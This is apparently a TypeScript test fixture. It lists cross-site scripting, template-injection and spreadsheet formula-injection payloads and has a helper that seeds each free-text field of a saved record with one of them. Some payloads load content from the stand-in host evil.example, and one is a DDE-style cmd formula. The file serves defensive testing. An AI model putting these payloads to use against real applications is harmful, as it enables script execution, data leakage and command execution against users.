import type { Field, Fields } from '#contract/kit/field.ts';
import { limits } from '#contract/kit/limits.ts';

/** A host that is not ours: whatever is asked of it has escaped. */
export const foreignHost = 'evil.example';

/** Texts that run, load or leave when they are taken for markup, for a template, an address or a formula (reference reliability S12–S16, S21). */
export const payloads: readonly string[] = [
  '<script>window.__pwned=1</script>',
  '<img src=x onerror=window.__pwned=1>',
  '<svg onload=window.__pwned=1>',
  '<svg/onload=alert(1)>',
  '"><script>alert(1)</script>',
  `'><img src=x onerror=alert(1)>`,
  '<iframe srcdoc="<script>parent.__pwned=1</script>">',
  '<iframe src=javascript:parent.__pwned=1>',
  '<a href=javascript:window.__pwned=1>a</a>',
  'javascript:window.__pwned=1',
  '<img src=//evil.example/a.png>',
  '<link rel=stylesheet href=//evil.example/a.css>',
  `<style>@import '//evil.example/a.css';</style>`,
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content=0;url=//evil.example/>',
  '<form action=//evil.example/><button>b</button></form>',
  '<details open ontoggle=window.__pwned=1>d</details>',
  '<input autofocus onfocus=window.__pwned=1>',
  '<body onload=alert(1)>',
  '<object data=//evil.example/a.swf></object>',
  '<math><mtext></table><img src=x onerror=alert(1)>',
  `{{constructor.constructor('window.__pwned=1')()}}`,
  '${window.__pwned=1}',
  '<b onmouseover=window.__pwned=1 style=color:red>b</b>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '</title><script>window.__pwned=1</script>',
  '=HYPERLINK("//evil.example/","x")',
  `+1+cmd|' /C calc'!A0`,
  '@SUM(1+1)',
  '-2+3',
  '＝1+1',
];

/** The payload at a place of the list, which has no end. */
export const payloadAt = (place: number): string => payloads[place % payloads.length] ?? '';

/**
 * A save with a payload in each text that a person may type, a different one in each: in the record `turn`, the fields
 * have the payloads from `turn` on. `tail` makes texts different that must be; what a field cannot hold is cut off.
 */
export function poisoned(
  fields: Fields,
  { sample, turn, tail }: { sample: Readonly<Record<string, unknown>>; turn: number; tail: string },
): Record<string, unknown> {
  const places = Object.entries(fields).filter(([, field]) => isFreeText(field));
  const texts = places.map(([name, field], place) => [name, fitted(payloadAt(turn + place), field, tail)]);
  return { ...sample, ...Object.fromEntries(texts) };
}

function isFreeText({ kind, derived, pattern }: Field): boolean {
  return !derived && !pattern && (kind.name === 'text' || kind.name === 'prose');
}

function fitted(payload: string, { most, kind }: Field, tail: string): string {
  const room = most ?? (kind.name === 'prose' ? limits.remark : limits.name);
  return payload.slice(0, Math.max(room - tail.length, 0)) + tail.slice(0, room);
}
